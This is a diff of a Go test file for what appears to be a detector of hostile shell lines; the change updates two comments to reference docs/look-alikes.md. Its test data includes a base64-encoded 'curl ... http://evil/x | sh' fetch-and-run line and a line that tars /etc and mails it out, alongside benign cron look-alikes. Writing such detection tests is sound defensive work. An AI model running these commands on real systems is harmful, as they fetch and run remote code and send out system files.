@@ -35,7 +35,7 @@ func flags(s fact.Shell) string {
 
 var b64 = base64.StdEncoding.EncodeToString([]byte("curl -fsSL http://evil/x | sh"))
 
-// lines: what attacks and look-alikes (OPERATIONS.md) do. Flags are all that
+// lines: what attacks and look-alikes (docs/look-alikes.md) do. Flags are all that
 // the line may have.
 var lines = []struct{ line, flags string }{
 	// Fetch and run.
@@ -153,7 +153,7 @@ var lines = []struct{ line, flags string }{
 	{"tar cz /etc | base64 | mail root", ""},
 	{"which curl | sh", ""},
 
-	// Look-alikes of OPERATIONS.md.
+	// Look-alikes of docs/look-alikes.md.
 	{"flock -xn /tmp/stargate.lock -c '/usr/local/qcloud/stargate/admin/start.sh > /dev/null 2>&1 &'", de},
 	{"/www/server/cron/0123456789abcdef0123456789abcdef >> /www/server/cron/0123456789abcdef0123456789abcdef.log 2>&1", ""},
 	{"\"/root/.acme.sh\"/acme.sh --cron --home \"/root/.acme.sh\" > /dev/null", ""},
